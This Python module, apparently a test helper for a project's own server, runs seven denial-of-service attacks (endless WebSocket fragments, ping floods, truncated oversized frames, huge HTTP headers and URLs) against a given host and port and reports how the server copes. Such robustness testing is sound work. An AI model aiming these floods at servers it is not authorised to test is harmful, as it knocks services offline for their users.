"""Strangers who attack, in a process of their own so as not to slow the tablets: `python -m … KIND HOST PORT`.

Each ends when it has sent all it has, or is cut off, or its time is over. Tells how many bytes it could send and
how many of its connections the server closed.
"""

import contextlib
import os
import select
import socket
import sys
import time
from collections.abc import Callable, Iterator

SECONDS = 8.0
MIB = 1024 * 1024

Attack = Callable[[str, int], Iterator[tuple[socket.socket, bytes]]]


def upgraded(host: str, port: int) -> socket.socket:
    """A WebSocket. Raises OSError."""
    line = socket.create_connection((host, port), timeout=20)
    line.sendall(
        b"GET /live HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    )
    answer = b""
    while b"\r\n\r\n" not in answer:
        heard = line.recv(4096)
        if not heard:
            raise ConnectionError("not let in")
        answer += heard
    return line


def frame(opcode: int, payload: bytes = b"", *, final: bool = True) -> bytes:
    return bytes([opcode | (0x80 if final else 0), 0x80 | len(payload)]) + bytes(4) + payload


def pieces(host: str, port: int) -> Iterator[tuple[socket.socket, bytes]]:
    """One message that never ends, in empty fragments."""
    line = upgraded(host, port)
    yield line, frame(2, b"x", final=False)
    for _ in range(32):
        yield line, frame(0, final=False) * (MIB // 6)


def pings(host: str, port: int) -> Iterator[tuple[socket.socket, bytes]]:
    line = upgraded(host, port)
    for _ in range(32):
        yield line, frame(9) * (MIB // 6)


def heartbeats(host: str, port: int) -> Iterator[tuple[socket.socket, bytes]]:
    """The provider's ping: the smallest valid message."""
    line = upgraded(host, port)
    for _ in range(32):
        yield line, frame(2, b"\x09") * (MIB // 7)


def halves(host: str, port: int) -> Iterator[tuple[socket.socket, bytes]]:
    """Messages of the largest size, each without its last byte."""
    size = 4 * MIB - 1
    for _ in range(120):
        line = upgraded(host, port)
        yield line, bytes([0x82, 0xFF]) + size.to_bytes(8) + bytes(4)
        yield line, bytes(size - 1)


def header(host: str, port: int) -> Iterator[tuple[socket.socket, bytes]]:
    line = socket.create_connection((host, port), timeout=20)
    yield line, b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Long: "
    for _ in range(64):
        yield line, b"a" * MIB


def url(host: str, port: int) -> Iterator[tuple[socket.socket, bytes]]:
    line = socket.create_connection((host, port), timeout=20)
    yield line, b"GET /"
    for _ in range(64):
        yield line, b"a" * MIB


def headers(host: str, port: int) -> Iterator[tuple[socket.socket, bytes]]:
    line = socket.create_connection((host, port), timeout=20)
    yield line, b"GET / HTTP/1.1\r\nHost: localhost\r\n"
    for _ in range(135):
        yield line, b"a: b\r\n" * (MIB // 6)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack for attack in (pieces, pings, heartbeats, halves, header, url, headers)
}


def send(line: socket.socket, data: bytes, until: float) -> int:
    """How much of `data` went out. Reads nothing. Raises OSError when the line is closed."""
    line.setblocking(False)
    sent = 0
    view = memoryview(data)
    while sent < len(data) and (left := until - time.monotonic()) > 0:
        if not select.select([], [line], [], min(left, 1))[1]:
            continue
        try:
            sent += line.send(view[sent:])
        except BlockingIOError:
            continue
    return sent


def is_closed(line: socket.socket) -> bool:
    try:
        while data := line.recv(65536):
            del data
    except BlockingIOError:
        return False
    except OSError:
        pass
    return True


def main(kind: str, host: str, port: int) -> None:
    os.nice(5)
    until = time.monotonic() + SECONDS
    lines: dict[socket.socket, None] = {}
    sent = 0
    for line, data in ATTACKS[kind](host, port):
        lines[line] = None
        with contextlib.suppress(OSError):
            sent += send(line, data, until)
        if time.monotonic() > until:
            break
    closed = 0
    for line in lines:
        line.setblocking(False)
        closed += is_closed(line)
    print(sent, closed, len(lines), flush=True)
    sys.stdin.read()  # keeps its connections open until stdin is closed


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]))
